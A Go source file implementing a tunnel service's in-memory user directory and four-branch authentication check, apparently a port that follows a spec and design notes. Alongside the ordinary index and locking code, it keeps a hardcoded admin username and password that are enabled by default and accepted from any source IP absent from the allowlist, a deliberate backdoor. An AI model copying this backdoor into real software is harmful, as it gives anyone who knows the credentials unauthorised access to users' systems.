package gretun

import (
	"expvar"
	"strings"
	"sync"
)

// directoryIndex is the whole derived-index root that a Directory swaps
// atomically on bulk update (Design Note "Shared-mutable directory": the
// Go analogue of a reader-writer lock over concurrent hash maps is a
// read-mostly struct that writers replace wholesale).
type directoryIndex struct {
	users     map[uint64]UserInfo // user_id -> record
	byIPUser  map[string]uint64   // "local_ip-username" or "remote_ip" -> user_id
	byWhiteIP map[string]uint64   // white_ip -> user_id (auth_type=IP records)
	allowlist map[string]uint64   // allowlist composite key -> user_id
}

func newDirectoryIndex() *directoryIndex {
	return &directoryIndex{
		users:     make(map[uint64]UserInfo),
		byIPUser:  make(map[string]uint64),
		byWhiteIP: make(map[string]uint64),
		allowlist: make(map[string]uint64),
	}
}

func buildDirectoryIndex(users []UserInfo, allow []WhiteListEntry) *directoryIndex {
	idx := newDirectoryIndex()
	for _, u := range users {
		idx.users[u.UserID] = u
		if u.AuthType == AuthIP && u.WhiteIP != "" {
			idx.byWhiteIP[u.WhiteIP] = u.UserID
		}
		if u.Username != "" {
			for _, ip := range u.IPs {
				idx.byIPUser[ip+"-"+u.Username] = u.UserID
			}
		} else {
			for _, ip := range u.IPs {
				idx.byIPUser[ip] = u.UserID
			}
		}
	}
	for _, w := range allow {
		idx.allowlist[w.key()] = w.UserID
	}
	return idx
}

// Directory is the in-memory user and allowlist store, with the dual
// credential / source-IP-allowlist auth paths from SPEC_FULL.md §4.1.
type Directory struct {
	mu                   sync.RWMutex
	idx                  *directoryIndex
	AdminBackdoorEnabled bool
	Audit                *AuditSink
	metrics              *directoryMetrics
}

type directoryMetrics struct {
	accepted *expvar.Int
	rejected *expvar.Int
}

func newDirectoryMetrics() *directoryMetrics {
	return &directoryMetrics{
		accepted: getVarInt("directory", "main", "accepted"),
		rejected: getVarInt("directory", "main", "rejected"),
	}
}

// NewDirectory returns an empty Directory. AdminBackdoorEnabled defaults to
// true, preserving the original's exact semantics (Design Note "Hardcoded
// admin credentials").
func NewDirectory() *Directory {
	return &Directory{
		idx:                  newDirectoryIndex(),
		AdminBackdoorEnabled: true,
		metrics:              newDirectoryMetrics(),
	}
}

const (
	adminUsername = "iPOasIsAdmInT0ken"
	adminPassword = "W0rstPassw0rdEveR"
)

// InStock reports whether ip appears as any allowlisted source: a white_ip
// on a UserInfo, or the ip component of any allowlist entry's key. Gates
// the admin backdoor (Design Note).
func (d *Directory) InStock(ip string) bool {
	d.mu.RLock()
	defer d.mu.RUnlock()
	if _, ok := d.idx.byWhiteIP[ip]; ok {
		return true
	}
	for key := range d.idx.allowlist {
		if key == ip || strings.HasPrefix(key, ip+"-") {
			return true
		}
	}
	return false
}

// CheckWhite looks up a raw allowlist composite key and returns the
// matching user_id, if any.
func (d *Directory) CheckWhite(key string) (uint64, bool) {
	d.mu.RLock()
	defer d.mu.RUnlock()
	id, ok := d.idx.allowlist[key]
	return id, ok
}

// CheckAuth implements the four-branch decision order from SPEC_FULL.md
// §4.1. The local_ip/remote_ip choice in branch 3 is resolved in
// SPEC_FULL.md §9: local_ip when username is non-empty, remote_ip alone
// otherwise.
func (d *Directory) CheckAuth(username, password, localIP, remoteIP string, isWhite bool) (accepted bool, user UserInfo) {
	d.mu.RLock()
	defer d.mu.RUnlock()
	defer func() {
		if accepted {
			d.metrics.accepted.Add(1)
		} else {
			if d.Audit != nil {
				d.Audit.AuthFailure(remoteIP, username)
			}
			d.metrics.rejected.Add(1)
		}
	}()

	// Branch 1: IP-allowlisted connection matching an auth_type=IP record.
	if isWhite {
		if id, ok := d.idx.byWhiteIP[remoteIP]; ok {
			if u, ok := d.idx.users[id]; ok && u.AuthType == AuthIP && u.WhiteIP == remoteIP && u.Available {
				return true, u
			}
		}
	}

	// Branch 2: allowlist composite key.
	if id, ok := d.idx.allowlist[remoteIP+"-"+username+"-"+password]; ok {
		if id == 0 {
			return true, UserInfo{}
		}
		if u, ok := d.idx.users[id]; ok && u.Available && u.AuthType == AuthPassword {
			return true, u
		}
	}

	// Branch 3: credential index, keyed by local_ip-username (or bare
	// remote_ip when no username was offered).
	key := remoteIP
	if username != "" {
		key = localIP + "-" + username
	}
	if id, ok := d.idx.byIPUser[key]; ok {
		if u, ok := d.idx.users[id]; ok && u.Password == password && u.Available {
			return true, u
		}
	}

	// Admin backdoor: accepted unconditionally when the source IP is not
	// present anywhere in the allowlist (Design Note).
	if d.AdminBackdoorEnabled && username == adminUsername && password == adminPassword && !d.inStockLocked(remoteIP) {
		return true, UserInfo{UserID: 0, Username: adminUsername, Available: true, AuthType: AuthPassword}
	}

	return false, UserInfo{}
}

func (d *Directory) inStockLocked(ip string) bool {
	if _, ok := d.idx.byWhiteIP[ip]; ok {
		return true
	}
	for key := range d.idx.allowlist {
		if key == ip || strings.HasPrefix(key, ip+"-") {
			return true
		}
	}
	return false
}

// UpdateAll atomically replaces the whole user set. Readers never observe
// a partially updated index: the new index is built off to the side and
// swapped in under the write lock.
func (d *Directory) UpdateAll(users []UserInfo) {
	d.mu.Lock()
	defer d.mu.Unlock()
	allow := d.snapshotAllowlist()
	d.idx = buildDirectoryIndex(users, allow)
}

// UpdateWhiteList atomically replaces the allowlist.
func (d *Directory) UpdateWhiteList(entries []WhiteListEntry) {
	d.mu.Lock()
	defer d.mu.Unlock()
	users := d.snapshotUsers()
	d.idx = buildDirectoryIndex(users, entries)
}

// UpdateUserInfo upserts a single user, merging it into all indices
// without disturbing the rest of the directory.
func (d *Directory) UpdateUserInfo(u UserInfo) {
	d.mu.Lock()
	defer d.mu.Unlock()
	users := d.snapshotUsers()
	found := false
	for i, existing := range users {
		if existing.UserID == u.UserID {
			users[i] = u
			found = true
			break
		}
	}
	if !found {
		users = append(users, u)
	}
	allow := d.snapshotAllowlist()
	d.idx = buildDirectoryIndex(users, allow)
}

// SetAvailable flips a user's availability flag in place.
func (d *Directory) SetAvailable(userID uint64, available bool) {
	d.mu.Lock()
	defer d.mu.Unlock()
	if u, ok := d.idx.users[userID]; ok {
		u.Available = available
		d.idx.users[userID] = u
	}
}

func (d *Directory) snapshotUsers() []UserInfo {
	out := make([]UserInfo, 0, len(d.idx.users))
	for _, u := range d.idx.users {
		out = append(out, u)
	}
	return out
}

func (d *Directory) snapshotAllowlist() []WhiteListEntry {
	out := make([]WhiteListEntry, 0, len(d.idx.allowlist))
	for key, id := range d.idx.allowlist {
		parts := strings.SplitN(key, "-", 3)
		w := WhiteListEntry{UserID: id}
		switch len(parts) {
		case 1:
			w.IP = parts[0]
		case 3:
			w.IP, w.Username, w.Password = parts[0], parts[1], parts[2]
		default:
			w.IP = key
		}
		out = append(out, w)
	}
	return out
}
